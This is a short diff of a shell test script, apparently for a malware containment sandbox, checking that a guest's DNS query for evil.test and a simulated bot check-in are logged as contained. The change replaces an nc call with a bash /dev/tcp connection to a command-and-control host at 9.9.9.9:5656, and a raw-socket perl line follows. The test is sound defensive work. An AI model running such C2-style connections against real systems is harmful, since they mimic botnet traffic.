@@ -43,7 +43,8 @@ seen '.event_type == "sink" and .sink.kind == "handed" and .sink.protocol == "tl
 expect "DNS on port 5353" "$(guest dig +short +tries=3 -p 5353 @77.77.77.77 evil.test)" "$address"
 seen '.event_type == "dns" and .contained and .dest_ip == "77.77.77.77" and .dest_port == 5353'
 # a bot on a port of its own gets its command, as its flow is confirmed
-command=$(printf '\0\0\0\1\0\0\0' | guest timeout 20 nc -q 3 9.9.9.9 5656 | od -An -v -tx1 | tr -d ' \n')
+command=$(guest timeout 60 bash -c "exec 4<>/dev/tcp/9.9.9.9/5656; printf '\0\0\0\1\0\0\0' >&4; head -c 16 <&4" |
+	od -An -v -tx1 | tr -d ' \n')
 [[ $command == *0001010203042000* ]] || fail "no command: '$command'"
 seen '.event_type == "cnc" and .contained and .dest_ip == "9.9.9.9" and .dest_port == 5656'
 guest perl -e 'use Socket; socket(my $s, PF_INET, SOCK_RAW, 47) or die;
